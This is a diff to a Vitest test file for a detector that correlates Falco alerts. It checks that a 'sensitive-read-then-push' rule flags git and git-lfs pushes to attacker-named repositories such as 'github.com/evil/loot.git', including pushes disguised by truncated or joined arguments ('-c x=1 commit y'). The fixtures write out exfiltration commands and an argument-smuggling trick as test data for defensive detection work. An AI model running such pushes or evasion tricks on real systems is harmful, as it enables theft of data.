@@ -9,7 +9,7 @@
 import { describe, expect, it } from 'vitest';
 import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
-import { falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
+import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
 import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
 import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
 
@@ -46,17 +46,30 @@ function fieldsOf(p: Proc) {
  * send-pack`, with `sendPack`), connects to github.com and sends 3 KiB (or, `connectsItself`, the pusher does
  * and no helper runs); they exit.
  */
-function gitRun(pusher: Proc, o: { sendPack?: boolean; connectsItself?: boolean } = {}): NormalizedEvent[] {
+function gitRun(
+  pusher: Proc,
+  o: { sendPack?: boolean; connectsItself?: boolean; helper?: Pick<Proc, 'exepath' | 'argv'> } = {},
+): NormalizedEvent[] {
   const helper: Proc = {
     pid: pusher.pid + 1,
-    exepath: '/usr/lib/git-core/git-remote-https',
-    argv: ['git-remote-https', 'https://github.com/evil/loot.git', 'https://github.com/evil/loot.git'],
+    exepath: o.helper?.exepath ?? '/usr/lib/git-core/git-remote-https',
+    argv: o.helper?.argv ?? [
+      'git-remote-https',
+      'https://github.com/evil/loot.git',
+      'https://github.com/evil/loot.git',
+    ],
     parent: pusher,
   };
   const exec = (p: Proc, ms: number) =>
     falcoAlertText({
       evtTimeNs: at(ms),
-      fields: { ...fieldsOf(p), 'proc.exe': falcoExe(p.argv), 'evt.type': 'execve', 'evt.rawres': 0 },
+      fields: {
+        ...fieldsOf(p),
+        'proc.exe': falcoExe(p.argv),
+        'proc.cmdnargs': falcoArgCount(p.argv),
+        'evt.type': 'execve',
+        'evt.rawres': 0,
+      },
     });
   const exit = (p: Proc, ms: number) =>
     falcoAlertText({
@@ -141,6 +154,24 @@ describe('git whose command line Falco cut at 4 KiB, through its https helper', 
     const daemon = ['git', '-c', PAD, 'push', 'git://203.0.113.9/loot.git', 'main'];
     expect(brief(await alertsOf(gitRun(git('/usr/bin/git', daemon), { connectsItself: true })))).toEqual([
       { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: `${GITHUB}:443` },
+    ]);
+  });
+});
+
+describe('git whose spaced arguments Falco joined, through its https helper', () => {
+  const planted = ['git', '-c', 'x=1 commit y', 'push', 'https://github.com/evil/loot.git', 'main'];
+  it('is a push once git-lfs runs for git lfs push, cut or regrouped', async () => {
+    const lfs = { exepath: '/usr/bin/git-lfs', argv: ['git-lfs', 'push', '--all', 'https://github.com/evil/loot.git'] };
+    const high = { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' };
+    const cut = ['git', '-c', PAD, 'lfs', 'push', '--all', 'https://github.com/evil/loot.git'];
+    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', cut), { helper: lfs })))).toEqual([high]);
+    const spaced = ['git', '-c', 'x=1 commit y', 'lfs', 'push', '--all', 'https://github.com/evil/loot.git'];
+    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', spaced), { helper: lfs })))).toEqual([high]);
+  });
+
+  it('is a push once its helper runs send-pack, though its plain reading is git commit', async () => {
+    expect(brief(await alertsOf(gitRun(git('/usr/bin/git', planted), { sendPack: true })))).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
     ]);
   });
 });
